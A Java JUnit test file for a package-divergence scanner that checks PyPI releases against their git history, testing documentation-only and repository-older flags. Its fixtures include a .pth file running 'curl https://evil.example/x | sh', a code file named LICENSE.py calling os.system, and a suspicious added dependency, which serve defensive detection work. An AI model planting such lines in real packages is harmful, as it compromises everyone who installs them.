package dev.divergence.scan;

import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.flatProject;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.FileKinds;
import dev.divergence.demo.PypiIndexWriter;
import dev.divergence.demo.PythonDistributions;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.fixtures.Trees;
import dev.divergence.model.Ecosystem;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileKind;
import dev.divergence.model.FileStatus;
import dev.divergence.model.RefMethod;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.Verdict;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.SortedMap;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The version-level flags that qualify a DIVERGENT verdict without changing it: documentation-only differences
 * and a repository older than the release. Each flag is also shown not to cover what it must not.
 */
class ReleaseFlagsTest {

    @TempDir
    Path dir;

    /** The wheel's view of the flat project: the package folder only. */
    private static SortedMap<String, byte[]> wheel(SortedMap<String, byte[]> tree) {
        SortedMap<String, byte[]> m = new TreeMap<>();
        tree.forEach((k, v) -> {
            if (k.startsWith("demo/") || k.endsWith(".pth")) {
                m.put(k, v);
            }
        });
        return m;
    }

    /** A tagged 1.0.0 whose sdist is {@code published}. */
    private ReleaseReport tagged(ScanWorld w, SortedMap<String, byte[]> published) throws Exception {
        w.commit(flatProject("1.0.0"), "1.0.0");
        w.tag("v1.0.0");
        w.publish("1.0.0", published, wheel(published));
        return w.scan("1.0.0");
    }

    @Test
    void aReadmeAndChangelogEditedAtPublishTimeAreDocOnlyAndStayDivergent() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            ReleaseReport r = tagged(w, Trees.with(flatProject("1.0.0"), "README.md", "# demo\n\nNow on PyPI!\n",
                    "CHANGELOG.md", "## 1.0.0\n- first release\n"));
            assertEquals(Verdict.DIVERGENT, r.verdict());
            FileDivergence readme = row(artifact(r, ".tar.gz"), "demo-1.0.0/README.md");
            FileDivergence changelog = row(artifact(r, ".tar.gz"), "demo-1.0.0/CHANGELOG.md");
            assertEquals(List.of(FileStatus.MODIFIED, FileKind.DOC), List.of(readme.status(), FileKinds.of(Ecosystem.PYPI, readme)));
            assertEquals(List.of(FileStatus.PHANTOM, FileKind.DOC),
                    List.of(changelog.status(), FileKinds.of(Ecosystem.PYPI, changelog)));
            assertTrue(ReleaseFlags.docOnlyDivergence(r));
            assertFalse(ReleaseFlags.repositoryOlder(r), "a tag names the version");
        }
    }

    @Test
    void aDocumentationEditBesideACodeChangeIsNotDocOnly() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            ReleaseReport r = tagged(w, Trees.with(flatProject("1.0.0"), "README.md", "# demo!\n",
                    "demo/core.py", "def add(a, b):\n    return a - b\n"));
            assertEquals(Verdict.DIVERGENT, r.verdict());
            assertEquals(FileKind.CODE, FileKinds.of(Ecosystem.PYPI, row(artifact(r, ".tar.gz"), "demo-1.0.0/demo/core.py")));
            assertFalse(ReleaseFlags.docOnlyDivergence(r));
        }
    }

    @Test
    void aDependencyListBesideTheReadmeIsMetadataNotDocumentation() throws Exception {
        // setup.py may read requirements.txt into install_requires: a new line there is a new dependency.
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            ReleaseReport r = tagged(w, Trees.with(flatProject("1.0.0"), "README.md", "# demo!\n",
                    "requirements.txt", "requests\nevil-helper==6.6.6\n"));
            FileDivergence reqs = row(artifact(r, ".tar.gz"), "demo-1.0.0/requirements.txt");
            assertEquals(FileKind.METADATA, FileKinds.of(Ecosystem.PYPI, reqs));
            assertFalse(ReleaseFlags.docOnlyDivergence(r));
        }
    }

    @Test
    void aDocumentationNameOnCodeIsCode() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            ReleaseReport r = tagged(w, Trees.with(flatProject("1.0.0"), "README.md", "# demo!\n",
                    "demo/LICENSE.py", "import os\nos.system('id')\n"));
            assertEquals(FileKind.CODE, FileKinds.of(Ecosystem.PYPI, row(artifact(r, ".tar.gz"),
                    "demo-1.0.0/demo/LICENSE.py")));
            assertFalse(ReleaseFlags.docOnlyDivergence(r));
        }
    }

    @Test
    void aDocumentationEditInAnArtifactWithAnotherFindingIsNotDocOnly() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(flatProject("1.0.0"), "1.0.0");
            w.tag("v1.0.0");
            SortedMap<String, byte[]> tree = Trees.with(flatProject("1.0.0"), "README.md", "# demo!\n");
            // The registry vouches for other bytes than it serves: a finding beside the README edit.
            w.pypi.index().add(new PypiIndexWriter.Upload("1.0.0", "demo-1.0.0.tar.gz",
                    PythonDistributions.sdist("demo", "1.0.0", tree, List.of("demo")),
                    Instant.parse("2026-01-02T00:00:00Z"), false, Optional.of("ab".repeat(32))));
            ReleaseReport r = w.scan("1.0.0");
            assertEquals(Verdict.DIVERGENT, r.verdict());
            assertEquals(FileStatus.MODIFIED, row(artifact(r, ".tar.gz"), "demo-1.0.0/README.md").status());
            assertFalse(ReleaseFlags.docOnlyDivergence(r));
        }
    }

    @Test
    void aReleaseNewerThanEveryCommitWithNoTagIsFlaggedRepositoryOlderAndAPayloadIsStillHighRisk() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            // Commits in December 2025, releases in January 2026 (ScanWorld's clocks), no tag for 1.0.1 or 1.0.2.
            w.commit(flatProject("1.0.0"), "1.0.0");
            SortedMap<String, byte[]> changed = Trees.with(flatProject("1.0.1"), "demo/util.py",
                    "def twice(x):\n    return x + x\n");
            SortedMap<String, byte[]> payload = Trees.with(flatProject("1.0.2"), "demo_init.pth",
                    "import os; os.system('curl https://evil.example/x | sh')\n");
            w.publish("1.0.1", changed, wheel(changed));
            w.publish("1.0.2", payload, wheel(payload));

            ReleaseReport diverged = w.scan("1.0.1");
            assertEquals(List.of(Verdict.DIVERGENT, RefMethod.BLOB_OVERLAP), List.of(diverged.verdict(),
                    diverged.ref().method()));
            assertTrue(ReleaseFlags.repositoryOlder(diverged));
            assertTrue(diverged.ref().note().orElseThrow().contains("repository snapshot is older than the release"));

            ReleaseReport attacked = w.scan("1.0.2");
            assertEquals(Verdict.HIGH_RISK, attacked.verdict());
            assertTrue(ReleaseFlags.repositoryOlder(attacked), "the flag qualifies, it never lowers the verdict");
        }
    }

    @Test
    void aRepositoryWithCommitsAfterTheReleaseOrATagIsNotOlder() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(flatProject("1.0.0"), "1.0.0");
            w.tag("v1.0.0");
            SortedMap<String, byte[]> changed = Trees.with(flatProject("1.0.1"), "demo/util.py",
                    "def twice(x):\n    return x + x\n");
            w.publish("1.0.0", flatProject("1.0.0"), wheel(flatProject("1.0.0")));
            w.publish("1.0.1", changed, wheel(changed));
            // The tagged version, published a month after its commit: a tag ties it, the copy is not "older".
            assertFalse(ReleaseFlags.repositoryOlder(w.scan("1.0.0")));
            // Work continued after 1.0.1 was published: its commit is simply not there, the copy is not older.
            w.git.commit(Trees.with(flatProject("1.1.0.dev0"), "demo/extra.py", "X = 1\n"), "later",
                    Instant.parse("2026-06-01T00:00:00Z"));
            dev.divergence.source.RepositoryCache.clear(); // a new run sees the repository as it is now
            ReleaseReport r = w.scan("1.0.1");
            assertEquals(List.of(Verdict.DIVERGENT, RefMethod.BLOB_OVERLAP), List.of(r.verdict(), r.ref().method()));
            assertFalse(ReleaseFlags.repositoryOlder(r));
        }
    }
    /** Scans a version as a registry that sends no publication time lists it (this machine's Maven Central proxy). */
    private static ReleaseReport scanWithoutTime(ScanWorld w, String version) throws Exception {
        dev.divergence.model.Release r = w.release(version);
        dev.divergence.model.Release noTime = new dev.divergence.model.Release(r.pkg(), r.version(), r.artifacts(),
                Optional.empty(), r.yanked(), r.yankedReason(), r.hints());
        return w.scanner().scan(noTime, Optional.of(w.git.dir().toString()));
    }

    @Test
    void withoutAPublicationTimeAVersionAboveEveryTagAndTheNewestManifestIsRepositoryOlderAndAPayloadStillHighRisk()
            throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(flatProject("1.0.0"), "1.0.0");
            w.tag("v1.0.0");
            w.commit(Trees.with(flatProject("1.0.1.dev0"), "README.md", "# demo\n\nnext\n"), "back to development");
            SortedMap<String, byte[]> changed = Trees.with(flatProject("1.0.1"), "demo/util.py",
                    "def twice(x):\n    return x + x\n");
            SortedMap<String, byte[]> payload = Trees.with(flatProject("1.0.2"), "demo_init.pth",
                    "import os; os.system('curl https://evil.example/x | sh')\n");
            w.publish("1.0.0", flatProject("1.0.0"), wheel(flatProject("1.0.0")));
            w.publish("1.0.1", changed, wheel(changed));
            w.publish("1.0.2", payload, wheel(payload));

            ReleaseReport diverged = scanWithoutTime(w, "1.0.1");
            assertEquals(List.of(Verdict.DIVERGENT, RefMethod.BLOB_OVERLAP), List.of(diverged.verdict(),
                    diverged.ref().method()));
            assertTrue(ReleaseFlags.repositoryOlder(diverged), diverged.ref().note().orElse(""));
            assertTrue(diverged.ref().note().orElseThrow().contains("repository snapshot is older than the release (no "
                    + "publication time; the version is higher than every tagged version (highest 1.0.0) and than "
                    + "1.0.1.dev0, which the newest commit"), diverged.ref().note().orElseThrow());

            ReleaseReport attacked = scanWithoutTime(w, "1.0.2");
            assertEquals(Verdict.HIGH_RISK, attacked.verdict());
            assertTrue(ReleaseFlags.repositoryOlder(attacked), "the flag qualifies, it never lowers the verdict");
            assertFalse(ReleaseFlags.repositoryOlder(scanWithoutTime(w, "1.0.0")), "a tag names the version");
        }
    }

    @Test
    void withoutAPublicationTimeARepositoryThatMovedPastTheVersionIsNotOlder() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(flatProject("1.0.0"), "1.0.0");
            w.tag("v1.0.0");
            SortedMap<String, byte[]> changed = Trees.with(flatProject("1.0.1"), "demo/util.py",
                    "def twice(x):\n    return x + x\n");
            w.publish("1.0.1", changed, wheel(changed));
            // The newest commit declares a later version than the release: 1.0.1's commit is not merely missing yet.
            w.commit(Trees.with(flatProject("1.1.0.dev0"), "demo/extra.py", "X = 1\n"), "towards 1.1");
            ReleaseReport r = scanWithoutTime(w, "1.0.1");
            assertEquals(List.of(Verdict.DIVERGENT, RefMethod.BLOB_OVERLAP), List.of(r.verdict(), r.ref().method()));
            assertFalse(ReleaseFlags.repositoryOlder(r), r.ref().note().orElse(""));
            // A tag of a higher version: the project released past this version without tagging it.
            w.commit(Trees.with(flatProject("1.0.0"), "demo/extra.py", "X = 2\n"), "back on 1.0 (a maintenance line)");
            w.tag("v1.1.0");
            dev.divergence.source.RepositoryCache.clear(); // a new run sees the repository as it is now
            ReleaseReport tagged = scanWithoutTime(w, "1.0.1");
            assertEquals(RefMethod.BLOB_OVERLAP, tagged.ref().method());
            assertFalse(ReleaseFlags.repositoryOlder(tagged), tagged.ref().note().orElse(""));
        }
    }
}
